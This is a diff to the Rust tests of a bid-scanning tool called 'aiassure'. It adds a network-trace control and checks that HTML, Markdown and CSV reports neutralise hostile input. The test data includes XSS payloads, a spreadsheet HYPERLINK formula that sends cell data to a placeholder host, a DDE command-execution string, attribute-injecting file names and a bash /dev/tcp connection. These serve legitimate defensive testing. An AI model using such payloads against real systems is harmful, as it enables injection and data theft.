@@ -94,6 +94,18 @@ fn makes_no_network_requests() {
     .collect();
     let bin = env!("CARGO_BIN_EXE_aiassure");
     if strace_works() {
+        // The control: a connection attempt is seen, so a clean trace means something.
+        let log = out.path().join("control.log");
+        let _ = Command::new("strace")
+            .args(["-f", "-qq", "-e", "trace=network", "-o"])
+            .arg(&log)
+            .args(["bash", "-c", "echo > /dev/tcp/127.0.0.1/9"])
+            .output();
+        let control = std::fs::read_to_string(&log).unwrap_or_default();
+        assert!(
+            control.contains("AF_INET") && control.contains("connect("),
+            "strace does not show a known connection attempt:\n{control}"
+        );
         for args in &commands {
             let log = out.path().join("trace.log");
             let o = Command::new("strace")
@@ -275,20 +287,22 @@ fn adversarial_text_is_escaped_and_neutralised() {
     let dir = tempfile::tempdir().expect("scratch");
     let bid = "TENDER RESPONSE\n\n\
         Q3 Will artificial intelligence or machine learning be used in the delivery of the service?\n\n\
-        Yes. Residents chat with CareBot <script>alert('bid')</script><img src=x onerror=alert(1)>, an AI chatbot that answers questions using a large language model.\n\n\
+        Yes <script>alert('bid')</script><img src=x onerror=alert(1)> residents chat with CareBot, an AI chatbot that answers questions using a large language model.\n\n\
         =HYPERLINK(\"http://192.0.2.1/steal?\"&A1,\"Click\") Our AI system uses facial recognition to verify visitors.\n\n\
         +cmd|' /C calc'!A0 The model is trained on resident case notes.\n\n\
         @SUM(1+1) We use automated decision-making to prioritise repairs.\n";
     let names = [
         "=HYPERLINK(\"http-x\").txt",
-        "<img src=x onerror=alert(1)>.md",
+        "<img src=x onerror=alert(1)>.txt",
         "-2+3 bid.txt",
+        "q\" onmouseover=\"alert(1).txt",
+        "new\n\n<img src=x onerror=alert(2)>\n\nline`<script>x`.txt",
     ];
     for n in names {
         std::fs::write(dir.path().join(n), bid).expect("write");
     }
     let run = |format: &str| -> String {
-        let mut args = vec!["scan", "--format", format, "--fail-on", "never", "-q"];
+        let mut args = vec!["scan", "--format", format, "--fail-on", "never", "-q", "--"];
         args.extend(names);
         let o = bin()
             .args(&args)
@@ -307,17 +321,31 @@ fn adversarial_text_is_escaped_and_neutralised() {
 
     let html = run("html");
     let lower = html.to_lowercase();
-    for banned in ["<script", "<img", "onerror=alert", "<iframe"] {
+    // Escaped text may show the markup; nothing may open an element or leave an attribute.
+    for banned in ["<script", "<img", "<iframe", "onmouseover=\"", "onmouseover='"] {
         assert!(
             !lower.contains(banned),
             "HTML report contains raw {banned}"
         );
     }
     assert!(html.contains("&lt;script&gt;"), "document text is escaped");
-    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;.md"), "file names are escaped");
+    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;.txt"), "file names are escaped");
 
+    // Markdown: markup from a document or a file name appears only inside a code span on its
+    // own line (shown as code, never parsed as HTML).
     let md = run("markdown");
-    assert!(!md.to_lowercase().contains("<script") && !md.contains("<img"));
+    for line in md.lines() {
+        for tag in ["<img", "<script"] {
+            for (at, _) in line.match_indices(tag) {
+                let ticks = line[..at].matches('`').count();
+                assert!(ticks % 2 == 1, "raw {tag} in Markdown line {line:?}");
+            }
+        }
+    }
+    assert!(
+        md.contains("`new  <img src=x onerror=alert(2)>  line'<script>x'.txt`"),
+        "a file name with line breaks and backticks stays in one code span:\n{md}"
+    );
 
     let csv = run("csv");
     let mut reader = csv::Reader::from_reader(csv.as_bytes());
